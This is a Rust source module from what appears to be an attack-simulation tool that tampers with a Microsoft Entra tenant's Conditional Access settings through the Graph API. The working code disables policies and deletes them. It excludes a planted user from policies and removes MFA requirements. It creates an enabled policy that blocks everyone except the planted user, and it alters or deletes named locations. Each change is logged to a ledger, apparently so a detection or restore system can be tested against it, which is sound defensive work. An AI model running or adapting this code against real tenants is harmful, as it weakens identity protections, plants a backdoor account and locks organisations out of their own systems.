//! Strikes against Conditional Access.

use serde_json::{Value, json};

use super::{AttackError, DeedKind, Intruder, has, id, name};

const POLICIES: &str = "/identity/conditionalAccess/policies";
const LOCATIONS: &str = "/identity/conditionalAccess/namedLocations";
const POLICY: &str = "conditionalAccessPolicy";

pub(super) async fn strike(intruder: &mut Intruder) -> Result<(), AttackError> {
    let policies = intruder.client.list(POLICIES, 10).await?;
    weaken(intruder, &policies).await?;
    for _ in 0..2 {
        if let Some(policy) = intruder.pick(&policies, |_| true) {
            intruder
                .client
                .delete(&format!("{POLICIES}/{}", id(&policy)))
                .await?;
            let sentence = format!("deleted the policy {}", name(&policy));
            intruder
                .ledger
                .note(POLICY, &policy, DeedKind::SoftDeleted, &[], &sentence);
        }
    }
    if let Some(rogue) = intruder.rogue_user.clone() {
        let policy = intruder
            .client
            .create(
                POLICIES,
                &json!({
                    "displayName": "CA099 Temporary access",
                    "state": "enabled",
                    "conditions": {
                        "clientAppTypes": ["all"],
                        "applications": { "includeApplications": ["All"] },
                        "users": { "includeUsers": ["All"], "excludeUsers": [rogue] },
                    },
                    "grantControls": { "operator": "OR", "builtInControls": ["block"] },
                }),
            )
            .await?;
        let sentence = "added a policy that blocks everyone but the planted user";
        intruder
            .ledger
            .note(POLICY, &policy, DeedKind::Added, &[], sentence);
    }
    let locations = intruder.client.list(LOCATIONS, 10).await?;
    move_borders(intruder, &locations).await
}

async fn weaken(intruder: &mut Intruder, policies: &[Value]) -> Result<(), AttackError> {
    if let Some(policy) = intruder.pick(policies, |policy| policy["state"] == "enabled") {
        let body = json!({ "state": "disabled" });
        intruder
            .client
            .change(&format!("{POLICIES}/{}", id(&policy)), &body)
            .await?;
        let sentence = format!("switched off {}", name(&policy));
        intruder
            .ledger
            .note(POLICY, &policy, DeedKind::Modified, &["state"], &sentence);
    }
    let rogue = intruder.rogue_user.clone().unwrap_or_default();
    let excludes = |policy: &Value| policy["conditions"]["users"]["excludeUsers"].is_array();
    let with_users = |policy: &Value| excludes(policy) && !rogue.is_empty();
    if let Some(policy) = intruder.pick(policies, with_users) {
        let mut excluded = policy["conditions"]["users"]["excludeUsers"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        excluded.push(rogue.clone().into());
        let body = json!({ "conditions": { "users": { "excludeUsers": excluded } } });
        intruder
            .client
            .change(&format!("{POLICIES}/{}", id(&policy)), &body)
            .await?;
        let sentence = format!("excluded the planted user from {}", name(&policy));
        intruder.ledger.note(
            POLICY,
            &policy,
            DeedKind::Modified,
            &["conditions"],
            &sentence,
        );
    }
    let demands_mfa = |policy: &Value| {
        has(&policy["grantControls"]["builtInControls"], "mfa")
            && !has(
                &policy["grantControls"]["builtInControls"],
                "passwordChange",
            )
    };
    if let Some(policy) = intruder.pick(policies, demands_mfa) {
        let body = json!({
            "grantControls": {
                "operator": "OR",
                "builtInControls": ["compliantDevice", "domainJoinedDevice"],
            },
        });
        intruder
            .client
            .change(&format!("{POLICIES}/{}", id(&policy)), &body)
            .await?;
        let sentence = format!("took the demand for MFA out of {}", name(&policy));
        intruder.ledger.note(
            POLICY,
            &policy,
            DeedKind::Modified,
            &["grantControls"],
            &sentence,
        );
    }
    Ok(())
}

async fn move_borders(intruder: &mut Intruder, locations: &[Value]) -> Result<(), AttackError> {
    let is = |location: &Value, kind: &str| {
        location["@odata.type"]
            .as_str()
            .is_some_and(|name| name.ends_with(kind))
    };
    let trusted =
        |location: &Value| is(location, "ipNamedLocation") && location["isTrusted"] == true;
    let any = |location: &Value| is(location, "ipNamedLocation");
    let location = intruder
        .pick(locations, trusted)
        .or_else(|| intruder.pick(locations, any));
    if let Some(location) = location {
        let now_trusted = location["isTrusted"] != true;
        let body = json!({
            "@odata.type": "#microsoft.graph.ipNamedLocation",
            "isTrusted": now_trusted,
            "ipRanges": [
                { "@odata.type": "#microsoft.graph.iPv4CidrRange", "cidrAddress": "198.18.0.0/15" },
            ],
        });
        intruder
            .client
            .change(&format!("{LOCATIONS}/{}", id(&location)), &body)
            .await?;
        let sentence = format!(
            "moved {} to a foreign network and changed its trust",
            name(&location)
        );
        intruder.ledger.note(
            "namedLocation",
            &location,
            DeedKind::Modified,
            &["ipRanges", "isTrusted"],
            &sentence,
        );
    }
    if let Some(location) =
        intruder.pick(locations, |location| is(location, "countryNamedLocation"))
    {
        intruder
            .client
            .delete(&format!("{LOCATIONS}/{}", id(&location)))
            .await?;
        let sentence = format!("deleted the location {}", name(&location));
        intruder.ledger.note(
            "namedLocation",
            &location,
            DeedKind::SoftDeleted,
            &[],
            &sentence,
        );
    }
    Ok(())
}
